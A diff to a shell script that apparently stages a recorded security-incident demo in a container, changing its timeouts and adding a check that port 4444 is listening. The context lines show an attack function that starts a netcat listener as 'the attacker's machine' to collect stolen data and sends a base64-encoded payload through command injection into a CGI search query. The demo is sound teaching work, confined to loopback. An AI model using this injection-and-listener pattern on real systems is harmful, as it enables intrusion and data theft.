@@ -199,7 +199,7 @@ start_container()
 	n=0
 	until get / >/dev/null 2>&1; do
 		n=$((n + 1))
-		[ $n -lt 50 ] || die "the web server in the container does not answer"
+		[ $n -lt 600 ] || die "the web server in the container does not answer"
 		sleep 0.1
 	done
 }
@@ -215,7 +215,7 @@ start_recorder()
 	n=0
 	until [ -s "$output" ]; do
 		n=$((n + 1))
-		if ! kill -0 $recorder 2>/dev/null || [ $n -gt 100 ]; then
+		if ! kill -0 $recorder 2>/dev/null || [ $n -gt 600 ]; then
 			cat "$work/record.log" >&2
 			die "the recorder does not start; sysreel doctor says what is missing"
 		fi
@@ -237,6 +237,12 @@ visit()
 	get '/cgi-bin/search?q=lamp' >/dev/null
 }
 
+# Port 4444 is 115C there, and 0A says that it is listened to.
+listens()
+{
+	outside cat /proc/net/tcp /proc/net/tcp6 2>/dev/null | grep -q ':115C 0*:0000 0A'
+}
+
 attack()
 {
 	payload=$(grep -v '^#' "$here/demo/incident/payload.sh" | base64 -w 0)
@@ -244,7 +250,12 @@ attack()
 	# the attacker's machine; on the container's own loopback, so that nothing leaves it
 	outside nc -l -p 4444 >"$work/stolen" 2>/dev/null &
 	listener=$!
-	sleep 0.5
+	n=0
+	until listens; do
+		n=$((n + 1))
+		[ $n -lt 600 ] || die "the attacker's machine does not listen"
+		sleep 0.1
+	done
 	get "/cgi-bin/search?q=$injected" >/dev/null
 	wait $listener
 	listener=
